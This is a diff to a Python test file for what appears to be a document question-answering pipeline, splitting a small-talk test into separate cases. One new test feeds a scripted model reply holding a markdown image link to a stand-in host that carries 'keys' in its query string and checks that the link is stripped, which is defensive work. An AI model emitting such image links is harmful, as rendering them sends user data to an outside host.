@@ -569,17 +569,19 @@ class ScriptedModel:
 
 @pytest.mark.parametrize(
     ("written", "shown"),
-    [
-        ("My pleasure [1].", "My pleasure (1)."),
-        ("My pleasure. ![x](http://evil/?q=keys)", "My pleasure."),
-        ("", "You are welcome. Ask me anything about the documents."),
-    ],
+    [("My pleasure [1].", "My pleasure (1)."), ("", "You are welcome. Ask me anything about the documents.")],
 )
-def test_a_model_answers_small_talk_without_markers_or_images_or_the_pack_does(written: str, shown: str) -> None:
+def test_a_model_answers_small_talk_without_markers_and_the_pack_if_it_fails(written: str, shown: str) -> None:
     small_talk = SmallTalk(client=ScriptedModel(written))
     reply, _ = asked(pipeline(small_talk=small_talk), Query(text="Thanks!"))
     assert reply.answer.text == shown
     assert reply.degraded == (() if written else ("small talk",))
+
+
+def test_small_talk_of_a_model_links_to_no_other_host() -> None:
+    small_talk = SmallTalk(client=ScriptedModel("My pleasure. ![x](http://evil/?q=keys)"))
+    reply, _ = asked(pipeline(small_talk=small_talk), Query(text="Thanks!"))
+    assert reply.answer.text == "My pleasure."
 
 
 def test_an_intent_has_a_prompt_of_its_own() -> None:
